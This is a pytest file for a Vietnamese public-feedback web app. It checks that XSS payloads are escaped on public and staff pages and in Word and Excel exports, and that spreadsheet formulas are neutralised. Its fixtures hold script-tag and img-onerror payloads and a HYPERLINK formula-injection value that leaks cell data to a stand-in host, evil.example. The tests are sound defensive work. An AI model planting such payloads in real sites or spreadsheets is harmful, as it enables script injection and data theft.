"""Hostile input: XSS payloads escaped on every page and in both exports, formulas neutralised, CSRF, rate limits."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document as DocxDocument
from openpyxl import load_workbook
from sqlalchemy import select

from feedback.models import Comment, DispositionKind
from feedback.services.answers import answer_comments
from feedback.services.comments import OrganisationAuthor, ResidentAuthor, submit_comment
from tests.feedback.conftest import make_published

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def hostile(session, officer, org_user, areas):
    """A draft whose every text field carries a payload, with comments and a published answer."""
    text = f"# Mục {SCRIPT}\n\nĐoạn có {IMG} trong văn bản.\n\n# Mục hai\n\nĐoạn thứ hai.\n"
    document = make_published(session, officer, areas, text=text, title=f"Dự thảo {SCRIPT}")
    version = document.current_version
    first = version.paragraphs[0]
    a = submit_comment(session, version, first, body=f"{SCRIPT} và {IMG}",
                       author=ResidentAuthor(name=IMG, commune=SCRIPT, contact=IMG))
    b = submit_comment(session, version, first, body=FORMULA, author=ResidentAuthor(name=FORMULA))
    submit_comment(session, version, None, body=f"@SUM(1+1) {IMG}", author=OrganisationAuthor(org_user))
    org_user.organisation.name = f"Hội {IMG}"
    answer_comments(session, document, [a, b], kind=DispositionKind.EXPLAINED, reply=f"Trả lời {SCRIPT}",
                    officer=officer, actor=officer, publish=True)
    session.commit()
    return document


def assert_escaped(html: str) -> None:
    assert SCRIPT not in html
    assert "<img src=x" not in html and "onerror=alert(1)>" not in html


def test_payloads_are_escaped_on_every_public_page(client, hostile):
    code = hostile.code
    pages = [f"/feedback/{code}", f"/feedback/{code}/1/s1-p1", f"/feedback/{code}/1/s1", f"/feedback/{code}/1/document",
             f"/feedback/{code}/answers", f"/feedback/{code}/poster", "/", "/feedback/"]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.get_data(as_text=True))
    reading = client.get(f"/feedback/{code}/1/s1-p1").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reading


def test_payloads_are_escaped_when_a_form_is_shown_again_and_on_the_closed_page(client, session, hostile):
    data = {"body": f"{SCRIPT} {IMG}", "name": IMG, "commune": SCRIPT}  # no consent: the form comes back
    response = client.post(f"/feedback/{hostile.code}/1/s1-p1", data=data)
    assert response.status_code == 200 and "Hãy đánh dấu đồng ý" in response.get_data(as_text=True)
    assert_escaped(response.get_data(as_text=True))
    from datetime import timedelta

    from core.db import utc_now

    hostile.current_version.closes_at = utc_now() - timedelta(seconds=1)
    session.commit()
    closed = client.post(f"/feedback/{hostile.code}/1/s1-p1", data=data)
    assert closed.status_code == 403
    assert_escaped(closed.get_data(as_text=True))


def test_payloads_are_escaped_on_every_staff_page(client, auth, hostile, session):
    auth.login("bcd@example.vn")
    code = hostile.code
    disposition_id = session.scalars(select(Comment.disposition_id).where(Comment.disposition_id.is_not(None))).first()
    comment_ids = session.scalars(select(Comment.id)).all()
    pages = ["/dashboard", "/feedback/manage", f"/feedback/manage/{code}", f"/feedback/manage/{code}/comments",
             f"/feedback/manage/{code}/progress", f"/feedback/manage/{code}/audit",
             f"/feedback/manage/dispositions/{disposition_id}",
             f"/feedback/manage/{code}/answer?" + "&".join(f"comment={i}" for i in comment_ids)]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.get_data(as_text=True))


def test_docx_export_keeps_payloads_as_plain_text(client, auth, hostile):
    auth.login("bcd@example.vn")
    data = client.get(f"/feedback/manage/{hostile.code}/export.docx").data
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert SCRIPT not in xml and "<img" not in xml
    assert "<w:fldSimple" not in xml and "<w:instrText" not in xml  # no Word fields were created
    texts = [c.text for row in DocxDocument(io.BytesIO(data)).tables[0].rows for c in row.cells]
    assert f"{SCRIPT} và {IMG}" in texts and FORMULA in texts


def test_xlsx_export_neutralises_formulas_and_keeps_text(client, auth, hostile):
    auth.login("bcd@example.vn")
    data = client.get(f"/feedback/manage/{hostile.code}/export.xlsx").data
    book = load_workbook(io.BytesIO(data))
    sheet = book["Tổng hợp"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + FORMULA in values and FORMULA not in values
    assert "'@SUM(1+1) " + IMG in values
    assert f"{SCRIPT} và {IMG}" in values
    assert any(isinstance(v, str) and v.startswith("'" + FORMULA) for v in values)  # the resident's name too
